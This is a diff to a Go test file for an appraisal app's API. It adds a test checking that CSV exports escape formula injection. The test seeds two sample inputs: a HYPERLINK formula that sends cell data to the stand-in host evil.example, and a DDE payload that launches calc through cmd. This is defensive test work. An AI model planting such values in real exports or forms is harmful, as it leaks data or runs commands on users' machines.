@@ -2,8 +2,10 @@ package app_test
 
 import (
 	"bytes"
+	"encoding/csv"
 	"fmt"
 	"net/http"
+	"slices"
 	"strconv"
 	"strings"
 	"sync"
@@ -689,6 +691,31 @@ func TestEventListsSortByTime(t *testing.T) {
 		}
 		if r := h.as(t, admin, "GET", "/api/v1/audit-logs?sort=action", nil); r.status != 422 {
 			t.Fatalf("sorting the audit log on a field: %d", r.status)
+		}
+	})
+}
+
+// TestExportCellsAreInert: what staff typed reaches the spreadsheet as text, never as a formula
+// (CSV injection): a customer named like a HYPERLINK formula and an item titled like a DDE call.
+func TestExportCellsAreInert(t *testing.T) {
+	forEachBackend(t, func(t *testing.T, h *harness) {
+		_, op := h.user(t, "olga", appraisal.RoleOperator)
+		name := `=HYPERLINK("http://evil.example/?d="&A1,"查看")`
+		c := must(t, h.as(t, op, "POST", "/api/v1/customers", map[string]any{"name": name}), 201)
+		it := must(t, h.as(t, op, "POST", "/api/v1/items", map[string]any{"customer_id": c["id"], "category_id": "2", "title": "@SUM(1+1)*cmd|' /C calc'!A0"}), 201)
+		must(t, h.as(t, op, "POST", "/api/v1/orders", map[string]any{"item_id": it["id"], "product_id": "2"}), 201)
+		r := h.as(t, op, "GET", "/api/v1/orders/export.csv?item_id="+it["id"].(string), nil)
+		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.body, []byte("\uFEFF")))).ReadAll()
+		if err != nil || len(rows) != 2 {
+			t.Fatalf("export: %v %q", err, r.body)
+		}
+		for _, cell := range rows[1] {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("a cell a spreadsheet would run: %q", cell)
+			}
+		}
+		if !slices.Contains(rows[1], "'"+name) {
+			t.Errorf("the customer's name is not kept as text: %q", rows[1])
 		}
 	})
 }
